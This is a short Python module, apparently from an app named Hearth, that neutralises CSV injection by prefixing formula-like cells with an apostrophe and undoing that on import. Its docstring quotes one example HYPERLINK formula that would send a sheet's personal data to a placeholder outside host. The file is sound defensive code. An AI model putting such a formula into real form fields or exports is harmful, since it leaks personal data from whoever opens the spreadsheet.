"""Cells a spreadsheet would run as a formula, made inert (OWASP: CSV injection).

A name typed on the public form as `=HYPERLINK("https://example.net/?"&B2,"Open")`
would otherwise become a live formula in a manager's Excel and send the sheet's
personal data away. Every CSV Hearth writes prefixes such a cell with an
apostrophe; XLSX cells are written as text; the importers take one such
apostrophe off again, so a council's export imports back unchanged.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

#: What a spreadsheet may read as the start of a formula (or of a DDE command).
RISKY_STARTS = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"


def risky(value: Any) -> bool:
    return isinstance(value, str) and value.startswith(RISKY_STARTS)


def inert(value: Any) -> Any:
    """The value as a CSV cell no spreadsheet will evaluate."""
    return GUARD + value if risky(value) else value


def inert_row(row: Iterable[Any]) -> list[Any]:
    return [inert(value) for value in row]


def unguarded(text: str) -> str:
    """What an importer reads: one guarding apostrophe taken off, so exports round-trip."""
    return text[1:] if text.startswith(GUARD) and risky(text[1:]) else text
